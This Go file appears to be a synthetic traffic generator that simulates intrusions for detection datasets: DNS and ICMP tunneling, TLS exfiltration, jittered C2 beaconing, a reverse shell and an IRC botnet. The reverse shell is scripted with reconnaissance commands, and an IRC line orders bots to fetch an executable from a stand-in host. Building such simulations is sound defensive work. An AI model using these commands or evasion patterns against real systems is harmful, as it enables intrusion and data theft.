package datasets

import (
	"encoding/base32"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
)

// lookup resolves name to addr for h through its resolver at t unless
// cached, and returns when h has the answer.
func (a *attackCtx) lookup(h *host, name string, target *host, ttl uint32, t int64) int64 {
	if h.dnsCache == nil {
		h.dnsCache = map[string]int64{}
	}
	if exp, ok := h.dnsCache[name]; ok && exp > t {
		return t + 50*us
	}
	h.dnsCache[name] = t + int64(ttl)*sec
	q := dnsQA{name: name, qtype: dnsA, ans: []rr{{name: name, typ: dnsA, ttl: ttl, addr: target.ip4}}, cold: true}
	edns := uint16(1232)
	if h.os == osWindows {
		edns = 0
	}
	done := a.g.dnsFlow(a.ev, h, h.resolver, t, []dnsQA{q}, edns, a.r)
	return done + 150*us
}

// victimHost picks the compromised workstation, preferring Windows.
func (a *attackCtx) victimHost() *host {
	for range 8 {
		h := a.o.ws[a.r.IntN(len(a.o.ws))]
		if h.os == osWindows {
			return h
		}
	}
	return a.o.ws[a.r.IntN(len(a.o.ws))]
}

var b32 = base32.StdEncoding.WithPadding(base32.NoPadding)

func installDNSTunnel(a *attackCtx) Event {
	g, r := a.g, a.r
	w := a.victimHost()
	domain := []string{"telemetry-cdn.example", "sync-metrics.example", "api-updates.example"}[r.IntN(3)]
	zone := "t." + domain
	session := fmt.Sprintf("%04x", r.IntN(65536))
	rate := 15 * a.scale
	mean := interval(rate)
	count := 0
	edns := uint16(1232)
	if w.os == osWindows {
		edns = 0
	}
	g.spawn(&spawner{until: a.end, fn: func(g *gen, t int64) int64 {
		count++
		// Upstream data rides in the name: base32, at most 63 characters a
		// label, with a sequence number so the server can reorder.
		data := strings.ToLower(b32.EncodeToString(randBytes(r, 40+r.IntN(70))))
		var labels []string
		for len(data) > 0 {
			n := min(len(data), 63)
			labels = append(labels, data[:n])
			data = data[n:]
		}
		name := strings.Join(labels, ".") + fmt.Sprintf(".%x.%s.%s", count, session, zone)
		q := dnsQA{name: name, qtype: dnsTXT, cold: true}
		if r.IntN(7) == 0 {
			q.qtype = dnsCNAME
			q.ans = []rr{{name: name, typ: dnsCNAME, ttl: 0, target: strings.ToLower(b32.EncodeToString(randBytes(r, 20))) + "." + zone}}
		} else {
			// Downstream data comes back in TXT strings.
			var txt []string
			for range 1 + r.IntN(2) {
				txt = append(txt, base64.StdEncoding.EncodeToString(randBytes(r, 30+r.IntN(130))))
			}
			q.ans = []rr{{name: name, typ: dnsTXT, ttl: 0, txt: txt}}
		}
		g.dnsFlow(a.ev, w, w.resolver, t, []dnsQA{q}, edns, r)
		return t + jitter(r, mean)
	}}, a.start)
	return Event{Attackers: addrs(w.ip4), Victims: addrs(w.resolver.ip4),
		Details: map[string]string{"domain": domain, "rate_qps": fmt.Sprint(rate), "encoding": "base32 labels, TXT answers"}}
}

func installExfiltration(a *attackCtx) Event {
	g, r := a.g, a.r
	w := a.victimHost()
	srv := a.g.net.remote("exfil", "attacker", "doc2")
	name := "upload.filedrop.example"
	total := a.n(30e6, 100000)
	ready := a.lookup(w, name, srv, 300, a.start)
	msgs, cpre, spre := tlsPrelude(r, tlsCurl, name, tlsServer{alpn: true})
	left := total
	for i := 0; left > 0; i++ {
		n := min(left, 8<<20)
		left -= n
		req := message{from: 0, delay: 1*ms + r.Int64N(int64(5*ms)), bulk: n, kind: bulkTLS, salt: r.Uint64()}
		resp := message{from: 1, delay: 20*ms + r.Int64N(int64(80*ms)), bulk: 180 + r.IntN(200), kind: bulkTLS, salt: r.Uint64()}
		if i == 0 {
			req.head, resp.head = cpre, spre
		}
		msgs = append(msgs, req, resp)
	}
	c := g.dial(a.ev, w, srv, 443, false, ready, &tcpPlan{msgs: msgs, close: closeFIN0, closeDelay: 50 * ms}, "tls", name)
	c.bw[0] = 40e6 // the uploader's own rate limit
	return Event{Attackers: addrs(w.ip4), Victims: addrs(srv.ip4), VictimPorts: []int{443},
		Details: map[string]string{"bytes": fmt.Sprint(total), "server_name": name}}
}

func installBeaconing(a *attackCtx) Event {
	g, r := a.g, a.r
	w := a.victimHost()
	c2 := g.net.remote("c2", "attacker", "doc2")
	name := "cdn.assets-delivery.example"
	span := a.end - a.start
	every := 60 * sec
	if span < 60*minute {
		every = max(5*sec, span/60)
	}
	certs := certChain(name, g.tlsStart(), true)
	fl := tlsSchannel
	if w.os != osWindows {
		fl = tlsCurl
	}
	cl := &clientProfile{tls: fl}
	beacons := 0
	g.spawn(&spawner{until: a.end, fn: func(g *gen, t int64) int64 {
		beacons++
		ready := a.lookup(w, name, c2, 300, t)
		resp := 200 + r.IntN(400)
		if r.IntN(10) == 0 {
			resp = 2000 + r.IntN(18000) // a task for the implant
		}
		ex := []exchange{{think: 300 * us, req: 250 + r.IntN(150), resp: resp, proc: 30*ms + r.Int64N(int64(60*ms))}}
		plan := httpsPlan(r, cl, name, tlsServer{tls12: true, certs: certs}, ex, closeFIN0, 50*ms+r.Int64N(int64(150*ms)))
		g.dial(a.ev, w, c2, 443, false, ready, plan, "tls", name)
		return t + int64(float64(every)*lerp(0.8, 1.2, r.Float64()))
	}}, a.start)
	return Event{Attackers: addrs(w.ip4), Victims: addrs(c2.ip4), VictimPorts: []int{443},
		Details: map[string]string{"interval": fmt.Sprint(every / sec), "jitter": "0.2", "server_name": name}}
}

func installUnusualPorts(a *attackCtx) Event {
	g, r := a.g, a.r
	w := a.victimHost()
	shellSrv := g.net.remote("shell", "attacker", "doc3")
	ircSrv := g.net.remote("irc", "attacker", "doc2")
	eliteSrv := g.net.remote("elite", "attacker", "doc3")
	span := a.end - a.start
	g.dial(a.ev, w, shellSrv, 4444, false, a.start, reverseShell(r, w, span*9/10), "", "")
	g.dial(a.ev, w, ircSrv, 6667, false, a.start+span/20, ircSession(r, span*8/10), "irc", "")
	var msgs []message
	for t := int64(0); t < span*7/10; {
		d := 3*sec + r.Int64N(int64(25*sec))
		t += d
		msgs = append(msgs, message{from: 0, delay: d, bulk: 8 + r.IntN(120), salt: r.Uint64()},
			message{from: 1, delay: 5*ms + r.Int64N(int64(50*ms)), bulk: 8 + r.IntN(600), salt: r.Uint64()})
	}
	g.dial(a.ev, w, eliteSrv, 31337, false, a.start+span/10, &tcpPlan{msgs: msgs, close: closeFIN0, closeDelay: sec}, "", "")
	return Event{Attackers: addrs(w.ip4), Victims: addrs(shellSrv.ip4, ircSrv.ip4, eliteSrv.ip4),
		VictimPorts: []int{4444, 6667, 31337}}
}

var shellCommands = []string{"whoami", "hostname", "ipconfig /all", "net user", "net localgroup administrators",
	"dir C:\\Users", "tasklist", "systeminfo", "netstat -ano", "type C:\\Users\\Public\\notes.txt"}

// reverseShell is a plain-text cmd.exe (or sh) shell pushed to the
// attacker's listener; the attacker types, the victim answers.
func reverseShell(r *rand.Rand, w *host, dur int64) *tcpPlan {
	prompt := "C:\\Users\\jdoe\\Downloads>"
	banner := "Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n" + prompt
	if w.os != osWindows {
		prompt = "$ "
		banner = "sh: 0: can't access tty; job control turned off\n" + prompt
	}
	msgs := []message{{from: 0, delay: 2 * ms, head: []byte(banner)}}
	for t := int64(0); t < dur; {
		d := 4*sec + r.Int64N(int64(30*sec))
		t += d
		cmd := shellCommands[r.IntN(len(shellCommands))]
		out := shellOutput(r, cmd)
		msgs = append(msgs,
			message{from: 1, delay: d, head: []byte(cmd + "\n")},
			message{from: 0, delay: 20*ms + r.Int64N(int64(300*ms)), head: []byte(out + "\r\n" + prompt)})
	}
	msgs = append(msgs, message{from: 1, delay: 2 * sec, head: []byte("exit\n")})
	return &tcpPlan{msgs: msgs, close: closeFIN0, closeDelay: 5 * ms}
}

func shellOutput(r *rand.Rand, cmd string) string {
	var b strings.Builder
	for range 1 + r.IntN(25) {
		for i := range 3 + r.IntN(8) {
			if i > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(words[r.IntN(len(words))])
		}
		b.WriteString("\r\n")
	}
	return "\r\n" + cmd + " output:\r\n" + b.String()
}

// ircSession is a bot joining its IRC channel and idling there.
func ircSession(r *rand.Rand, dur int64) *tcpPlan {
	nick := fmt.Sprintf("win-%06x", r.IntN(1<<24))
	srv := "irc.botnet.example"
	msgs := []message{
		{from: 0, delay: 5 * ms, head: []byte(fmt.Sprintf("NICK %s\r\nUSER %s 0 * :%s\r\n", nick, nick[4:], nick))},
		{from: 1, delay: 30 * ms, head: []byte(fmt.Sprintf(":%s 001 %s :Welcome to the Internet Relay Network %s\r\n:%s 002 %s :Your host is %s, running version UnrealIRCd-6.1.4\r\n:%s 376 %s :End of /MOTD command.\r\n", srv, nick, nick, srv, nick, srv, srv, nick))},
		{from: 0, delay: 200 * ms, head: []byte("JOIN #ops s3cr3t\r\n")},
		{from: 1, delay: 20 * ms, head: []byte(fmt.Sprintf(":%s!%s@10.0.0.1 JOIN :#ops\r\n:%s 332 %s #ops :!update http://198.51.100.77/u.exe\r\n", nick, nick[4:], srv, nick))},
	}
	for t := int64(0); t < dur; {
		d := 60*sec + r.Int64N(int64(60*sec))
		t += d
		tok := fmt.Sprintf("%d", 1e9+r.IntN(1e9))
		msgs = append(msgs,
			message{from: 1, delay: d, head: []byte("PING :" + tok + "\r\n")},
			message{from: 0, delay: 40 * ms, head: []byte("PONG :" + tok + "\r\n")})
	}
	msgs = append(msgs, message{from: 0, delay: sec, head: []byte("QUIT :leaving\r\n")},
		message{from: 1, delay: 20 * ms, head: []byte("ERROR :Closing Link: " + nick + " (Quit: leaving)\r\n")})
	return &tcpPlan{msgs: msgs, close: closeFIN1, closeDelay: ms}
}

// icmpTunnel carries data both ways in echo payloads (ptunnel style).
type icmpTunnel struct {
	a     *attackCtx
	r     *rand.Rand
	f     *flow
	rtt   int64
	t     int64
	k     int
	total int
	mean  float64
	id    uint16
}

var ptunnelMagic = []byte{0xd5, 0x20, 0x08, 0x80}

func installICMPTunnel(a *attackCtx) Event {
	g, r := a.g, a.r
	w := a.victimHost()
	srv := g.net.remote("tunnel", "attacker", "doc3")
	f := g.newFlow(a.ev, protoICMP, g.net.peer(w, false, 0), g.net.peer(srv, false, 0), "icmp")
	f.icmp = [2]uint16{8, 0}
	rate := 20 * a.scale
	p := &icmpTunnel{a: a, r: r, f: f, rtt: srv.rtt, t: a.start, total: a.n(20*float64(a.end-a.start)/1e9, 1),
		mean: interval(rate), id: uint16(r.Uint32())}
	g.startBurst(p, a.start)
	return Event{Attackers: addrs(w.ip4), Victims: addrs(srv.ip4),
		Details: map[string]string{"rate_pps": fmt.Sprint(rate), "tool": "ptunnel"}}
}

func (p *icmpTunnel) next(g *gen, b *burst) (shot, bool) {
	if p.k >= p.total || p.t > p.a.end {
		return shot{}, false
	}
	p.k++
	n := 64 + p.r.IntN(1300)
	sh := shot{at: p.t, f: p.f, kind: shotICMP, typ: 8, rest: uint32(p.id)<<16 | uint32(uint16(p.k)), data: ptunnelMagic,
		n: n, salt: p.r.Uint64(), tag: tagEcho}
	p.t += jitter(p.r, p.mean)
	return sh, true
}

func (p *icmpTunnel) react(g *gen, b *burst, sh *shot) {
	if sh.tag == tagEcho {
		rep := *sh
		rep.at = g.now + p.rtt + p.r.Int64N(int64(p.rtt/10+1))
		rep.side, rep.typ, rep.tag = 1, 0, tagNone
		rep.n = 28 + p.r.IntN(1300)
		rep.salt = p.r.Uint64()
		b.later(rep)
	}
}

func (p *icmpTunnel) done(g *gen) { g.closeFlow(p.f) }
